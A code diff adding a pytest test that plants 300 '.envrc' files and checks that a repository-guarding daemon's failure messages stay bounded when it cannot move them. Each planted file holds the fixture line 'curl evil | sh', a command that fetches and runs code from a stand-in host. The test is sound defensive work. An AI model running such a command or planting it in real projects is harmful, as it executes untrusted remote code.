@@ -87,3 +87,26 @@ def test_the_twin_with_room_moves_each_plant_aside_and_says_it_once(tmp_path: Pa
     assert moved == [str(repo / ".envrc"), str(repo / ".git" / "config.worktree")], found
     assert not any(p.why.startswith("NOT checked whole") for p in found)
     git(repo, "status")  # nothing in the way
+
+
+def test_a_restart_that_still_finds_no_room_says_its_failures_within_the_bound(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """A daemon's start whose check of a dead daemon's record still cannot
+    move 300 plants: the worktree's refusal (and so every ``status``) names
+    the first 20 and counts the rest, as an end's does; it ran to megabytes
+    (past a reply's limit with enough plants, every ``status`` failing).
+    The twin: the end's own failure, bounded the same way."""
+    monkeypatch.setattr(noroom, "_ballast", [])
+    repo = make_repo(tmp_path / "r")
+    store = baselines.Baselines(str(tmp_path / "state"))
+    _join(store, "s", repo)
+    for i in range(300):
+        (repo / f"plant{i}").mkdir()
+        (repo / f"plant{i}" / ".envrc").write_text("curl evil | sh\n")
+    _no_room(monkeypatch)
+    [said] = store.leave("s")
+    assert "; and 280 more that could not be done either. " in said.why and said.why.count("/.envrc: ") == 20
+    fresh = baselines.Baselines(str(tmp_path / "state"))
+    fresh.recover()
+    [reason] = fresh.tainted.values()
+    assert reason.endswith("; and 280 more that could not be done either") and reason.count("/.envrc: ") == 20
